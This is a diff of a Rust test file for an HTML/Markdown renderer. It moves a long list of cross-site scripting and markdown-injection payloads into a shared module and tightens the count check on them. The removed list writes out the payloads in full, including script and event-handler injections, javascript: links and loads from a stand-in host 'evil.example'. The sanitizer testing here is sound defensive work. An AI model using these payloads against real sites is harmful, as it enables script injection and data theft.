@@ -2,97 +2,11 @@
 
 use std::collections::BTreeSet;
 
+use crate::support::hostile::HOSTILE;
+
 use supervision::render::document::{Block, Document};
 use supervision::render::markdown_tree::{DEEPEST, parse_prose};
 use supervision::render::{Graft, clean, fill, write_html, write_markdown, write_text};
-
-/// Notes out of which a browser could be made to run, load or send something.
-const HOSTILE: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)>",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<base href=//evil.example/>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<style>body{background:url(//evil.example/)}</style>",
-    "<form action=//evil.example><button>go</button></form>",
-    "<button formaction=javascript:alert(1)>go</button>",
-    "<isindex action=javascript:alert(1) type=image>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"  java\nscript:alert(1)\">x</a>",
-    "<div style=\"background:url(javascript:alert(1))\">",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<template><script>alert(1)</script></template>",
-    "<plaintext>",
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<title></title><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</main></body></html><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<!-- --!><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version=\"1.0\"?><script>alert(1)</script>",
-    "<!DOCTYPE html><script>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=\"x` `<script>alert(1)</script>\"` `>",
-    "<%00script>alert(1)</script>",
-    "\u{0}<script\u{0}>alert(1)</script>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&Tab;script:alert&lpar;1&rpar;)",
-    "[x](&#106;avascript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-    "[x](https://a.uk\"onmouseover=alert(1)//)",
-    "[x](https://a.uk/'onmouseover='alert(1))",
-    "[x](https://a.uk \"t\\\" onmouseover=alert(1) x=\\\"\")",
-    "[x](https://user@evil.example)",
-    "[x](//evil.example)",
-    "[x](#main)",
-    "[x]\n\n[x]: javascript:alert(1)",
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/beacon.png)",
-    "![x\" onerror=\"alert(1)](y)",
-    "<javascript:alert(1)>",
-    "<https://a.uk/\"onmouseover=alert(1)>",
-    "# h {onclick=alert(1)}",
-    "# h {#main .x onclick=\"alert(1)\"}",
-    "`</code><script>alert(1)</script>`",
-    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
-    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "> <script>alert(1)</script>",
-    "- <img src=x onerror=alert(1)>",
-    "**<b onmouseover=alert(1)>x</b>**",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u{202e}<script>alert(1)</script>",
-    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-    "{{ 7 * 7 }}{% include 'x' %}{# c #}",
-    "${alert(1)} #{alert(1)} <%= 1 %>",
-    "mailto:x@y.uk?bcc=z@evil.example <mailto:x@y.uk?body=\"onclick=alert(1)>",
-    "\\<script>alert(1)\\</script>",
-    "<a\u{c}href=javascript:alert(1)>x",
-    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect/></a>",
-];
 
 const ELEMENTS: &str = "html head meta title style body a header nav main section footer h1 h2 h3 h4 h5 h6 p ul ol li \
     dl dt dd div blockquote pre code hr br wbr strong em s table caption thead tbody tr th td figure figcaption";
@@ -157,7 +71,7 @@ fn words(text: &str) -> Vec<&str> {
 
 #[test]
 fn hostile_notes_come_out_as_words() {
-    assert!(HOSTILE.len() >= 60);
+    assert!(HOSTILE.len() >= 100);
     for note in HOSTILE {
         let html = page_of(parse_prose(note));
         assert_eq!(faults(&html), Vec::<String>::new(), "{note}\n{html}");
